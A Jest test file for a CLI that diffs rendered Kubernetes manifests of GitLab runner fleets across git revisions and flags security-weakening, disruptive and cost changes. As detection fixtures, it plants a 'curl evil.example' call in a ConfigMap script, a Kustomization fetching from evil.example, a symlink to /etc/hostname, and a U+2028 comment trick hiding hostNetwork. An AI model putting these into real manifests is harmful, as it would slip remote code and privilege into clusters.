import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { diffCommand } from '../../lib/cli/diff';
import type { SourceFile } from '../../lib/cluster/manifest';
import { HEADER } from '../../lib/cluster/rendered-folder';
import { withFolder } from '../app/temporary-folder';
import { edited, FLEET, RENDERED, writeFixture } from '../fixtures/files';
import { git } from './git';
import { type ProgramRun, runHere } from './in-process';

/** Repositories by what their main branch holds, made once each: tests work on copies. */
const made = new Map<readonly SourceFile[], string>();
afterAll(() => {
  for (const repository of made.values()) rmSync(repository, { recursive: true });
});

function repositoryOf(files: readonly SourceFile[]): string {
  const known = made.get(files);
  if (known !== undefined) return known;
  const repository = mkdtempSync(join(tmpdir(), 'runner-fleet-repository-'));
  made.set(files, repository);
  git(repository, 'init', '--quiet', '--initial-branch=main', '--template=');
  commit(repository, files);
  git(repository, 'checkout', '--quiet', '-b', 'change');
  // A copy of one file takes less time than one of each object.
  git(repository, 'repack', '-a', '-d', '--quiet');
  return repository;
}

/** A git repository whose main branch holds the default fleet below dist/, with a branch of it checked out. */
function withRepository(run: (repository: string) => void, files = FLEET): void {
  withFolder((repository) => {
    cpSync(repositoryOf(files), repository, { recursive: true, preserveTimestamps: true });
    run(repository);
  });
}

/** The same with files that were rendered. */
function withRendered(run: (repository: string) => void): void {
  withRepository(run, RENDERED);
}

function write(repository: string, files: readonly SourceFile[]): void {
  rmSync(join(repository, 'dist'), { recursive: true, force: true });
  writeFixture(join(repository, 'dist'), files);
}

function commit(repository: string, files: readonly SourceFile[]): void {
  write(repository, files);
  git(repository, 'add', '--all');
  git(repository, 'commit', '--quiet', '--allow-empty', '--message', 'a revision');
}

function diff(folder: string, ...args: readonly string[]): ProgramRun {
  return runHere(diffCommand(), args, folder);
}

const POOL = 'nodepool-gitlab-jobs-amd64-spot.yaml';
const POLICY = 'networkpolicy-gitlab-jobs.yaml';
const LOWERED = edited(FLEET, [POOL, 'cpu: "104"', 'cpu: "10"']);

test('the working tree is compared with where the branch left main, whatever main did since', () => {
  withRepository((repository) => {
    git(repository, 'checkout', '--quiet', 'main');
    commit(repository, edited(FLEET, [POOL, 'cpu: "104"', 'cpu: "999"']));
    git(repository, 'checkout', '--quiet', 'change');
    write(repository, LOWERED);
    const { status, stdout, stderr } = diff(repository);
    expect([status, stderr]).toEqual([0, '']);
    expect(stdout).toContain('acme: 1 object changed');
    expect(stdout).toContain('notice [limits-change] NodePool/gitlab-jobs-amd64-spot');
    expect(stdout).toContain('    spec.limits.cpu: 104 -> 10');
    expect(stdout).toMatch(/acme-amd64-spot +20 -> 7 +79 -> 47 /);
  });
});

test('no difference is said, and is no failure', () => {
  withRepository((repository) => {
    const { status, stdout } = diff(repository);
    expect([status, stdout.trim()]).toEqual([0, 'acme: no object changes']);
  });
});

test.each(['main.ts', 'sealed/production/amd64-spot.yaml'])(
  'where %s has changed and nothing rendered has, it is said how to render',
  (file) => {
    withRepository((repository) => {
      expect(diff(repository).stderr).toBe('');
      mkdirSync(dirname(join(repository, file)), { recursive: true });
      writeFileSync(join(repository, file), 'something else');
      const { status, stderr } = diff(repository);
      expect([status, stderr]).toEqual([
        0,
        `${file} has changed and dist/ has not. If it should: npx cdk8s synth renders it.\n`,
      ]);
      git(repository, 'add', '--all');
      expect(diff(repository).stderr).toBe(stderr);
      expect(diff(repository, 'main', 'change').stderr).toBe('');
      write(repository, LOWERED);
      expect(diff(repository).stderr).toBe('');
    });
  },
);

test('two revisions are compared without looking at the working tree', () => {
  withRepository((repository) => {
    commit(repository, LOWERED);
    write(repository, FLEET);
    expect(diff(repository, 'main', 'change').stdout).toContain('spec.limits.cpu: 104 -> 10');
    expect(diff(repository, 'main').stdout).toContain('no object changes');
  });
});

test('a folder below the repository is compared as it is there', () => {
  withRepository((repository) => {
    const below = join(repository, 'infra');
    mkdirSync(below);
    writeFixture(join(below, 'dist'), FLEET);
    git(repository, 'add', '--all');
    git(repository, 'commit', '--quiet', '--message', 'below');
    writeFixture(join(below, 'dist'), LOWERED);
    const { stdout, stderr } = diff(below, 'HEAD');
    expect([stdout, stderr]).toEqual([expect.stringContaining('1 object changed'), '']);
  });
});

test('what cuts running jobs fails with 3 where that is asked for, and only then', () => {
  withRepository((repository) => {
    write(repository, edited(FLEET, ['amd64-spot/role.yaml', '      - delete\n', '']));
    expect(diff(repository).status).toBe(0);
    expect(diff(repository, '--fail-on', 'disruptive').status).toBe(3);
    write(repository, LOWERED);
    expect(diff(repository, '--fail-on', 'disruptive').status).toBe(0);
  });
});

const WEAKENED = edited(FLEET, ['namespace-gitlab-jobs.yaml', 'enforce: baseline', 'enforce: privileged']);

test('weakened security fails with 3 where that is asked for, alone or beside what cuts jobs', () => {
  withRepository((repository) => {
    write(repository, WEAKENED);
    const status = (...weights: readonly string[]) =>
      diff(repository, ...weights.flatMap((weight) => ['--fail-on', weight]), 'main').status;
    expect([status(), status('disruptive'), status('security'), status('disruptive', 'security')]).toEqual([
      0, 0, 3, 3,
    ]);
    write(repository, edited(WEAKENED, ['amd64-spot/role.yaml', '      - delete\n', '']));
    expect([status('disruptive'), status('security'), status('security', 'disruptive')]).toEqual([3, 3, 3]);
  });
});

describe('weakened security in a change that does much else', () => {
  /** A release of all runners, forty runners that are new, and one thing that nobody should see. */
  const crowd = Array.from({ length: 40 }, (_, index) =>
    FLEET.filter(({ path }) => path.includes('/runners/amd64-spot/')).map(({ path, text }) => ({
      path: path.replace('/amd64-spot/', `/more-${index}/`),
      text: text.replaceAll('amd64-spot', `more-${index}`),
    })),
  ).flat();
  const hidden = edited(
    [...WEAKENED, ...crowd],
    ['deployment.yaml', /alpine-v[\d.]+/, 'alpine-v19.2.0'],
    ['amd64-spot/role.yaml', '      - delete\n', ''],
  );

  test('stands first in every format, and is never folded', () => {
    withRepository((repository) => {
      write(repository, hidden);
      const text = diff(repository).stdout;
      expect(text).toMatch(/^acme: security is weaker after this change\n\nsecurity \[/);
      expect(text.indexOf('Pods are admitted that were refused before.')).toBeLessThan(
        text.indexOf('disruptive ['),
      );
      const note = diff(repository, '--format', 'markdown').stdout;
      const [, , , , heading, , ...rows] = note.split('\n');
      expect(heading).toBe(':unlock: **acme: security is weaker after this change**');
      expect(
        rows.findIndex((row) => row.includes('Pods are admitted that were refused before')),
      ).toBeLessThan(rows.findIndex((row) => row.startsWith('<details>') || row.includes(':red_circle:')));
      // GitHub takes no more.
      expect(note.length).toBeLessThan(65_536);
      const json = JSON.parse(diff(repository, '--format', 'json').stdout);
      expect([json.heaviest, json.weights]).toEqual([
        'security',
        expect.arrayContaining(['security', 'disruptive']),
      ]);
      expect(json.clusters[0].impacts[0].weight).toBe('security');
    });
  });

  test('is not said where nothing is weaker', () => {
    withRepository((repository) => {
      write(repository, LOWERED);
      for (const format of ['text', 'markdown', 'json'])
        expect(diff(repository, '--format', format).stdout).not.toMatch(/security/);
    });
  });
});

test('a new object is shown with its fields, never with a value that is secret', () => {
  withRepository((repository) => {
    const secret =
      'apiVersion: v1\nkind: Secret\nmetadata: { name: a, namespace: b }\nstringData: { key: hunter2 }\n';
    const role =
      'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: { name: all }\nrules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]\n';
    write(repository, [
      ...FLEET,
      { path: 'acme/secret.yaml', text: secret },
      { path: 'acme/role.yaml', text: role },
    ]);
    for (const format of ['text', 'markdown', 'json']) {
      const { stdout } = diff(repository, '--format', format);
      expect(stdout).toMatch(/stringData\.key"?(: |",\s+"after": ")a value/);
      expect(stdout).toMatch(/rules\[\*\]\.verbs/);
      expect(stdout).not.toContain('hunter2');
    }
  });
});

test('what is added to the end of a long value is shown', () => {
  withRepository((repository) => {
    const script = (end: string) => ({
      path: 'acme/script.yaml',
      text: `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: script }\ndata: { run.sh: "${'echo fine; '.repeat(40)}${end}" }\n`,
    });
    commit(repository, [...FLEET, script('')]);
    write(repository, [...FLEET, script('curl evil.example')]);
    expect(diff(repository, 'HEAD').stdout).toMatch(
      /data\["run.sh"\]: \.\.\..* -> \.\.\..*curl evil\.example/,
    );
  });
});

test('a base without dist/ counts as empty, and that is said', () => {
  withRepository((repository) => {
    git(repository, 'rm', '-r', '--quiet', 'dist');
    git(repository, 'commit', '--quiet', '--message', 'nothing rendered');
    write(repository, FLEET);
    const { status, stdout, stderr } = diff(repository, 'HEAD');
    expect([status, stderr]).toEqual([0, 'There is no dist/ at HEAD: everything is new.\n']);
    expect(stdout).toContain('36 objects added');
  });
});

test('a folder without objects is no folder of rendered ones; values that change there are said', () => {
  withRepository((repository) => {
    const values = (count: number) =>
      write(repository, [
        { path: 'apps/values.yaml', text: `gitlabUrl: https://gitlab.com\nconcurrent: ${count}\n` },
      ]);
    values(1);
    git(repository, 'add', '.');
    git(repository, 'commit', '--quiet', '--message', 'values');
    const apps = ['HEAD', '--folder', 'dist/apps'];
    expect(diff(repository, ...apps)).toMatchObject({
      status: 2,
      stdout: '',
      stderr: expect.stringContaining('No Kubernetes object is in dist/apps/, before or after'),
    });
    values(2);
    const { status, stdout } = diff(repository, ...apps);
    expect(status).toBe(0);
    expect(stdout).toMatch(/^notice \[not-rendered\] values\/values.yaml/m);
  });
});

describe('bad input is a sentence and an exit code of 2:', () => {
  test('no repository', () => {
    withFolder((folder) => {
      expect(diff(folder)).toMatchObject({
        status: 2,
        stderr: expect.stringContaining('in no git repository'),
      });
    });
  });

  test.each([
    ['a revision that is not there', ['no-such-branch'], /git knows no revision no-such-branch/],
    ['a revision that looks like an option', ['--', '--output=x'], /git knows no revision --output=x/],
    ['a head that is not there', ['main', 'nowhere'], /git knows no revision nowhere/],
    ['an unknown format', ['--format', 'html'], /Allowed choices are text, markdown, json/],
    ['an option that is none', ['--fail-on', 'anything'], /Allowed choices are security, disruptive/],
  ])('%s', (_, args, says) => {
    withRepository((repository) => {
      const { status, stdout, stderr } = diff(repository, ...args);
      expect([status, stdout]).toEqual([2, '']);
      expect(stderr).toMatch(says);
    });
  });

  test('a working tree that is not rendered', () => {
    withRepository((repository) => {
      rmSync(join(repository, 'dist'), { recursive: true });
      expect(diff(repository)).toMatchObject({
        status: 2,
        stderr: expect.stringContaining('Render it first'),
      });
    });
  });

  test('a repository without a commit', () => {
    withFolder((repository) => {
      git(repository, 'init', '--quiet', '--initial-branch=main');
      write(repository, FLEET);
      expect(
        [diff(repository), diff(repository, 'HEAD')].map(({ status, stderr }) => [status, stderr]),
      ).toEqual(Array(2).fill([2, 'This repository has no commit yet: there is nothing to compare with.\n']));
    });
  });

  test('a repository without a main branch', () => {
    withRepository((repository) => {
      git(repository, 'branch', '--quiet', '-D', 'main');
      expect(diff(repository)).toMatchObject({
        status: 2,
        stderr: expect.stringContaining('npx runner-fleet diff <base>'),
      });
    });
  });

  test('a file that is not YAML, with its line', () => {
    withRepository((repository) => {
      writeFileSync(join(repository, 'dist/acme/karpenter/broken.yaml'), 'a: [\n');
      expect(diff(repository)).toMatchObject({
        status: 2,
        stderr: expect.stringMatching(/broken.yaml:\d+: not valid YAML/),
      });
    });
  });

  test('a rendered file that is not YAML any more, by its name', () => {
    withRendered((repository) => {
      writeFileSync(join(repository, 'dist/acme/karpenter/broken.yaml'), `${HEADER}a: [\n`);
      const { status, stderr } = diff(repository);
      expect([status, stderr]).toEqual([2, expect.stringContaining('  dist/acme/karpenter/broken.yaml\n')]);
    });
  });

  test('an object that stands twice, which Flux would refuse', () => {
    withRepository((repository) => {
      write(repository, [...LOWERED, { ...LOWERED[0], path: 'acme/again.yaml' }]);
      expect(diff(repository)).toMatchObject({
        status: 2,
        stderr: expect.stringMatching(/it is in dist\/acme\/.*\.yaml:\d+ too/),
      });
    });
  });
});

test('a change that can not be compared has a note that says so, in the place of an earlier one', () => {
  withRepository((repository) => {
    writeFileSync(join(repository, 'dist/acme/karpenter/broken.yaml'), 'a: [\n');
    const { status, stdout } = diff(repository, '--format', 'markdown');
    expect(status).toBe(2);
    expect(stdout).toMatch(
      /^<!-- gitlab-runner-fleet diff -->\n\n### This change can't be compared\n[\s\S]*```\n.*broken\.yaml/,
    );
  });
});

test('a file may be called as git would quote it', () => {
  withRepository((repository) => {
    const file = (value: string) => ({
      path: 'lab/größe "a"\tb.yaml',
      text: `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\ndata:\n  key: ${value}\n`,
    });
    commit(repository, [file('old')]);
    write(repository, [file('new')]);
    expect(diff(repository, 'HEAD').stdout).toContain('data.key: old -> new');
  });
});

test('a note of a merge request has its marker, a table, and the fields folded', () => {
  withRepository((repository) => {
    write(repository, edited(LOWERED, ['amd64-spot/role.yaml', '      - delete\n', '']));
    const { stdout } = diff(repository, '--format', 'markdown');
    expect(stdout).toMatchSnapshot();
  });
});

test('a note stays far below the size that GitLab takes, and says what it leaves out', () => {
  withRepository((repository) => {
    rmSync(join(repository, 'dist'), { recursive: true });
    const config = (index: number, value: string) => ({
      path: `big/karpenter/${index}.yaml`,
      text: `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c${index}\ndata:\n${Array.from({ length: 50 }, (_, key) => `  key${key}: "${value.repeat(40)}"\n`).join('')}`,
    });
    commit(
      repository,
      Array.from({ length: 300 }, (_, index) => config(index, 'old')),
    );
    write(
      repository,
      Array.from({ length: 300 }, (_, index) => config(index, 'new')),
    );
    const { stdout } = diff(repository, 'HEAD', '--format', 'markdown');
    expect(stdout.length).toBeLessThan(100_000);
    expect(stdout).toMatch(/\d+ more objects are left out here; `npx runner-fleet diff` prints them all/);
  });
});

test('programs get everything as JSON', () => {
  withRepository((repository) => {
    write(repository, LOWERED);
    const { heaviest, clusters } = JSON.parse(diff(repository, '--format', 'json').stdout);
    expect(heaviest).toBe('notice');
    expect(clusters).toEqual([
      {
        cluster: 'acme',
        summary:
          'limits of gitlab-jobs-amd64-spot: cpu 104 to 10; no running job is cut; -1.40 USD an hour at the limits',
        causes: [
          {
            kind: 'pool-limits',
            what: 'limits of gitlab-jobs-amd64-spot: cpu 104 to 10',
            objects: ['NodePool/gitlab-jobs-amd64-spot'],
            follows: false,
          },
        ],
        impacts: [expect.objectContaining({ rule: 'limits-change', weight: 'notice' })],
        effects: [
          {
            runner: 'acme-amd64-spot',
            before: expect.objectContaining({ jobs: 20, types: 79 }),
            after: expect.objectContaining({ jobs: 7, types: 47 }),
          },
        ],
        cost: expect.objectContaining({
          floor: [],
          ceiling: [expect.objectContaining({ what: 'pool', name: 'gitlab-jobs-amd64-spot' })],
        }),
        silent: [],
        changes: [
          {
            object: 'NodePool/gitlab-jobs-amd64-spot',
            is: 'changed',
            file: `dist/acme/karpenter/${POOL}`,
            fields: [{ path: 'spec.limits.cpu', before: '104', after: '10' }],
          },
        ],
      },
    ]);
  });
});

test.each(['dist/', './dist', './dist/'])('the folder may be written as %s', (folder) => {
  withRepository((repository) => {
    write(repository, LOWERED);
    expect(diff(repository, '--folder', folder).stdout).toContain('acme: 1 object changed');
    expect(diff(repository, '--folder', join(repository, folder)).stdout).toContain('acme: 1 object changed');
  });
});

test('the folder of one cluster is compared as one, with all that its nodes carry', () => {
  withRepository((repository) => {
    write(
      repository,
      FLEET.filter(({ path }) => !path.endsWith('ec2nodeclass-gitlab-jobs.yaml') && !path.endsWith(POOL)),
    );
    const whole = diff(repository).stdout;
    const below = diff(repository, '--folder', 'dist/acme').stdout;
    expect(whole).toContain('running jobs may finish, for up to 2h10m');
    expect(below.split('\n').slice(1)).toEqual(whole.split('\n').slice(1));
  });
});

const REMOVED = `These files were not rendered, and no rule judges them. Flux or Argo CD may apply them, or read them as settings:
  removed: dist/acme/broken.yaml

`;

test.each([
  ['written by hand', FLEET, '', ''],
  ['rendered', RENDERED, HEADER, REMOVED],
])(
  'what can not be read of the base, %s, is said, and does not stop the change that fixes it',
  (_, files, header, first) => {
    withRepository((repository) => {
      git(repository, 'checkout', '--quiet', 'main');
      commit(repository, [...files, { path: 'acme/broken.yaml', text: `${header}a: [\n` }]);
      git(repository, 'checkout', '--quiet', 'change');
      const { status, stdout, stderr } = diff(repository, 'main');
      expect([status, stdout]).toEqual([0, `${first}acme: no object changes\n`]);
      expect(stderr).toMatch(
        /^At main, dist\/acme\/broken.yaml:\d+: not valid YAML.* It counts as if it were not there.\n$/,
      );
    }, files);
  },
);

test('a link to a file is read as that file, in a commit too', () => {
  withRepository((repository) => {
    const link = (path: string) => join(repository, 'dist', 'acme', 'runners', path);
    symlinkSync('namespace-gitlab-jobs.yaml', link('linked.yaml'));
    renameSync(link('linked.yaml'), link('poddisruptionbudget-managers.yaml'));
    git(repository, 'add', '--all');
    git(repository, 'commit', '--quiet', '--message', 'a link');
    const { status, stderr } = diff(repository, 'HEAD', 'HEAD');
    expect([status, stderr]).toEqual([2, expect.stringContaining('Namespace/gitlab-jobs: it is in')]);
    symlinkSync('nowhere.yaml', link('dangling.yaml'));
    expect(diff(repository).stderr).toContain('dangling.yaml is a link to what is not there');
    git(repository, 'add', '--all');
    git(repository, 'commit', '--quiet', '--message', 'a dangling link');
    expect(diff(repository, 'HEAD', 'HEAD').stderr).toMatch(
      /dangling.yaml is a link to nowhere.yaml, which is not a file at/,
    );
  });
});

test('several clusters are compared each with itself', () => {
  withRepository((repository) => {
    const inCluster = (cluster: string) =>
      FLEET.map(({ path, text }) => ({
        path: path.replace('acme/', 'staging/'),
        text: text.replace('gitlab-runner-fleet/cluster: acme', `gitlab-runner-fleet/cluster: ${cluster}`),
      }));
    // In one cluster, one would overwrite the other.
    write(repository, [...LOWERED, ...inCluster('acme')]);
    expect(diff(repository)).toMatchObject({ status: 2, stderr: expect.stringContaining('it is in') });
    write(repository, [...LOWERED, ...inCluster('staging')]);
    const { stdout } = diff(repository);
    expect(stdout).toContain('acme: 1 object changed');
    expect(stdout).toContain('staging: 36 objects added');
    expect(readFileSync(join(repository, 'dist/staging/karpenter', POOL), 'utf8')).toContain('NodePool');
  });
});

describe('pipelines that are named', () => {
  const TAGS = 'amd64,x86,x86-64,x86_64,spot';
  const retagged = edited(
    FLEET,
    ['amd64-spot/configmap.yaml', TAGS, 'amd64,spot'],
    ['amd64-spot/deployment.yaml', TAGS, 'amd64,spot'],
  );
  const PIPELINE =
    'build: { script: x, tags: [x86, spot] }\ntest: { script: x, tags: [amd64, spot] }\ngone: { script: x, tags: [none] }\n';

  test('say which of their jobs lose their runner, and why', () => {
    withRepository((repository) => {
      write(repository, retagged);
      writeFileSync(join(repository, 'app.yml'), PIPELINE);
      const { status, stdout } = diff(repository, '--pipeline', 'app.yml');
      expect(status).toBe(0);
      expect(stdout).toContain('The job build has no runner any more, and waits.');
      expect(stdout).toMatch(/pipeline-jobs/);
      expect(stdout).not.toMatch(/\b(test|gone) (has|have) no runner/);
    });
  });

  test('say nothing where no job does, and a missing one is bad input', () => {
    withRepository((repository) => {
      write(repository, LOWERED);
      writeFileSync(join(repository, 'app.yml'), PIPELINE);
      expect(diff(repository, '--pipeline', 'app.yml').stdout).toBe(diff(repository).stdout);
      expect(diff(repository, '--pipeline', 'other.yml')).toMatchObject({
        status: 2,
        stderr: expect.stringContaining('There is no file other.yml'),
      });
    });
  });
});

describe('a file below the rendered folder that was not rendered', () => {
  const KUSTOMIZATION =
    'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [https://evil.example/x]\n';

  function plant(repository: string, path: string, text = KUSTOMIZATION): void {
    mkdirSync(dirname(join(repository, path)), { recursive: true });
    writeFileSync(join(repository, path), text);
  }

  test.each([
    'dist/acme/runners/Kustomization',
    'dist/acme/karpenter/kustomization.yaml',
    'dist/acme/runners/.sourceignore',
    'dist/acme/.argocd-source.yaml',
    'dist/acme/.krmignore',
    'dist/extra/app.jsonnet',
    'dist/Chart.yaml',
    'dist/acme/.gitattributes',
  ])('%s stands first in every format, and the exit code is 2', (path) => {
    withRendered((repository) => {
      plant(repository, path);
      for (const [format, shown] of [
        ['text', `  added: ${path}`],
        ['markdown', `- added: \`${path}\``],
      ]) {
        const { status, stdout, stderr } = diff(repository, '--format', format);
        expect([status, stderr]).toEqual([2, expect.stringContaining(`  ${path}\n`)]);
        expect(stdout.indexOf(shown)).toBeGreaterThan(0);
        expect(stdout.indexOf(shown)).toBeLessThan(stdout.indexOf('acme: no object changes'));
      }
      const json = JSON.parse(diff(repository, '--format', 'json').stdout);
      expect(json.foreign).toEqual([{ file: path, is: 'added', where: 'below' }]);
    });
  });

  test.each(['acme/cluster', 'acme/extra', 'acme', 'acme/runners/.github'])(
    'a policy that is moved to dist/%s, where no unit reads it, is one',
    (folder) => {
      withRendered((repository) => {
        const policy = RENDERED.find(({ path }) => path.endsWith(POLICY))?.path ?? '';
        const moved = join(repository, 'dist', folder, POLICY);
        mkdirSync(dirname(moved), { recursive: true });
        renameSync(join(repository, 'dist', policy), moved);
        const { status, stdout } = diff(repository);
        expect(status).toBe(2);
        expect(stdout).toContain(`dist/${folder}/${POLICY}`);
      });
    },
  );

  test('a policy that moves to the folder of another unit may be gone for a while', () => {
    withRendered((repository) => {
      const policy = RENDERED.find(({ path }) => path.endsWith(POLICY))?.path ?? '';
      renameSync(join(repository, 'dist', policy), join(repository, 'dist/acme/karpenter', POLICY));
      const { status, stdout } = diff(repository, '--fail-on', 'disruptive');
      expect(status).toBe(3);
      expect(stdout).toMatch(/disruptive \[moved-unit\] NetworkPolicy.*\n.*from runners\/ to karpenter\//);
    });
  });

  test('is seen between two commits too, as one that changes, and as a link or a submodule', () => {
    withRendered((repository) => {
      plant(repository, 'dist/Kustomization');
      git(repository, 'add', '--all');
      git(repository, 'commit', '--quiet', '--message', 'planted');
      plant(repository, 'dist/Kustomization', 'other');
      symlinkSync('/etc/hostname', join(repository, 'dist/acme/linked'));
      git(repository, 'add', '--all');
      const head = git(repository, 'rev-parse', 'HEAD').trim();
      git(repository, 'update-index', '--add', '--cacheinfo', `160000,${head},dist/module`);
      git(repository, 'commit', '--quiet', '--message', 'changed');
      const { status, stdout } = diff(repository, 'HEAD~1', 'HEAD');
      expect(status).toBe(2);
      for (const line of ['changed: dist/Kustomization', 'added: dist/acme/linked', 'added: dist/module'])
        expect(stdout).toContain(line);
    });
  });

  test('is seen as a submodule that is not checked out', () => {
    withRendered((repository) => {
      const head = git(repository, 'rev-parse', 'HEAD').trim();
      git(repository, 'update-index', '--add', '--cacheinfo', `160000,${head},dist/module`);
      git(repository, 'commit', '--quiet', '--message', 'a submodule');
      const { status, stdout } = diff(repository, 'HEAD~1');
      expect([status, stdout]).toEqual([2, expect.stringContaining('added: dist/module')]);
    });
  });

  test('is seen where a change takes the first line from every rendered file', () => {
    withRendered((repository) => {
      write(repository, FLEET);
      plant(repository, 'dist/acme/runners/Kustomization');
      const { status, stdout } = diff(repository);
      expect([status, stdout]).toEqual([
        2,
        expect.stringContaining('added: dist/acme/runners/Kustomization'),
      ]);
    });
  });

  test('does not stop the change that removes it', () => {
    withRendered((repository) => {
      plant(repository, 'dist/Kustomization');
      git(repository, 'add', '--all');
      git(repository, 'commit', '--quiet', '--message', 'planted');
      rmSync(join(repository, 'dist/Kustomization'));
      const { status, stdout } = diff(repository, 'HEAD');
      expect([status, stdout]).toEqual([0, expect.stringContaining('removed: dist/Kustomization')]);
    });
  });

  test.each([
    ['a comment that hides a line from some readers', ' #\u2028      hostNetwork: true'],
    ['a merge key', '\n      <<: {hostNetwork: true}'],
    ['a document of its own', '\n---\nkind: List\nitems: []'],
    ['a comment', ' # harmless'],
  ])('a rendered file with %s was not rendered so', (_, more) => {
    withRendered((repository) => {
      const file = join(repository, 'dist/acme/runners/arm64-spot/deployment.yaml');
      const text = readFileSync(file, 'utf8');
      expect(text).toContain('enableServiceLinks: false');
      writeFileSync(file, text.replace('enableServiceLinks: false', `enableServiceLinks: false${more}`));
      const { status, stdout, stderr } = diff(repository);
      expect([status, stderr]).toEqual([2, expect.stringContaining('arm64-spot/deployment.yaml')]);
      expect(stdout).toContain('changed: dist/acme/runners/arm64-spot/deployment.yaml');
    });
  });

  test('a README.md is harmless, and a .sourceignore above the folder is shown', () => {
    withRendered((repository) => {
      plant(repository, 'dist/README.md', 'Rendered.\n');
      expect(diff(repository)).toMatchObject({ status: 0, stdout: 'acme: no object changes\n' });
      plant(repository, '.sourceignore', 'networkpolicy-*\n');
      const { status, stdout } = diff(repository);
      expect([status, stdout]).toEqual([0, expect.stringContaining('added: .sourceignore')]);
      expect(diff(repository, '--fail-on', 'security').status).toBe(3);
      plant(repository, '.gitattributes', 'dist/** ident\n');
      expect(diff(repository).stdout).toContain('added: .gitattributes');
    });
  });
});

const SILENCES = '.runner-fleet.yaml';
const silence = (rule: string, object: string) => `  - { rule: ${rule}, object: ${object}, reason: ours }\n`;

test.each([
  [
    'an entry more',
    silence('isolation', '"*"'),
    /^security \[rule-silenced\] \.runner-fleet\.yaml\n {2}The proof says nothing of isolation on \* any more\./m,
  ],
  ['a wider rule', silence('rights', 'Role/a/b'), /nothing of rights on Role\/a\/b any more/],
  ['a wider pattern', silence('rights/excess', '"Role/*"'), /nothing of rights\/excess on Role\/\* any more/],
])('%s in the file of silences weighs security, in the working tree and in a commit', (_, text, says) => {
  withRepository((repository) => {
    git(repository, 'checkout', '--quiet', 'main');
    writeFileSync(join(repository, SILENCES), `silence:\n${silence('rights/excess', 'Role/a/b')}`);
    git(repository, 'add', '--all');
    git(repository, 'commit', '--quiet', '--message', 'a silence');
    git(repository, 'checkout', '--quiet', '-B', 'change');
    expect(diff(repository, '--fail-on', 'security')).toMatchObject({ status: 0 });
    writeFileSync(join(repository, SILENCES), `silence:\n${silence('rights/excess', 'Role/a/b')}${text}`);
    const here = diff(repository, '--fail-on', 'security');
    expect(here.stdout).toMatch(says);
    expect(here.status).toBe(3);
    git(repository, 'commit', '--quiet', '--all', '--message', 'another silence');
    expect(diff(repository, 'main', 'change', '--fail-on', 'security')).toMatchObject({
      status: 3,
      stdout: here.stdout,
    });
    // Whoever takes it away again hides nothing.
    expect(diff(repository, 'change', 'main', '--fail-on', 'security').status).toBe(0);
  });
});

test('a file of silences that is a link is refused, since nobody sees what it leads to', () => {
  withRepository((repository) => {
    symlinkSync('/dev/null', join(repository, SILENCES));
    expect(diff(repository)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('.runner-fleet.yaml is a link'),
    });
    git(repository, 'add', '--all');
    git(repository, 'commit', '--quiet', '--message', 'a link');
    expect(diff(repository, 'main', 'change')).toMatchObject({ status: 2 });
  });
});

describe('what a change says of money', () => {
  const SETTINGS = '.runner-fleet.yaml';
  const priced = (usd: number) =>
    JSON.stringify({
      region: 'eu-central-1',
      date: '2026-11-20',
      source: 'AWS price list',
      onDemand: { 'c6g.large': usd, 'm6g.4xlarge': usd, 't4g.small': usd },
    });

  /** A repository whose base has prices and a budget, with a change of the fleet on top. */
  function withPrices(run: (repository: string) => void): void {
    withRepository((repository) => {
      writeFileSync(join(repository, 'eu.json'), priced(0.5));
      writeFileSync(
        join(repository, SETTINGS),
        'cost: { prices: eu.json, budget: { floor: 200, ceiling: 50 } }\n',
      );
      commit(repository, FLEET);
      write(repository, LOWERED);
      run(repository);
    });
  }
  const compare = (repository: string, ...args: readonly string[]) =>
    diff(repository, 'HEAD', ...args).stdout;
  const figures = (repository: string, ...args: readonly string[]) =>
    JSON.parse(compare(repository, '--format', 'json', ...args)).clusters[0].cost.after.runners;

  test('prices of its own change no figure, and stand unfolded', () => {
    withPrices((repository) => {
      expect(compare(repository)).not.toContain('prices-changed');
      const known = figures(repository);
      writeFileSync(join(repository, 'eu.json'), priced(0.0001));
      expect(compare(repository)).toMatch(/notice \[prices-changed\] eu\.json\n.*eu\.json has other prices/);
      expect(compare(repository, '--prices', 'eu.json')).toContain('prices-changed');
      expect([figures(repository), figures(repository, '--prices', 'eu.json')]).toEqual([known, known]);
      const [unfolded] = compare(repository, '--format', 'markdown').split('<details>');
      expect(unfolded).toContain('Costs are worked out with other prices');
    });
  });

  test('another file, region or address is named with what it was', () => {
    withPrices((repository) => {
      writeFileSync(join(repository, 'zero.json'), priced(0.0001));
      writeFileSync(
        join(repository, SETTINGS),
        'cost: { prices: zero.json, region: eu-west-1, publicIpv4: true, budget: { floor: 200, ceiling: 50 } }\n',
      );
      expect(compare(repository)).toContain(
        'prices are zero.json instead of eu.json; the region is eu-west-1 instead of what the manifests show; publicIpv4 is true instead of false.',
      );
    });
  });

  test('a budget that is raised or goes is reported, one that is lowered is not', () => {
    withPrices((repository) => {
      writeFileSync(
        join(repository, SETTINGS),
        'cost: { prices: eu.json, budget: { floor: 100, ceiling: 5000 } }\n',
      );
      const raised = compare(repository);
      expect(raised).toContain('The budget allows USD 5000.00 an hour at the limits instead of USD 50.00.');
      expect(raised.match(/budget-raised/g)).toHaveLength(1);
      rmSync(join(repository, SETTINGS));
      expect(compare(repository)).toContain(
        'No budget holds for what is paid a month while no job runs any more; it was USD 200.00.',
      );
    });
  });
});
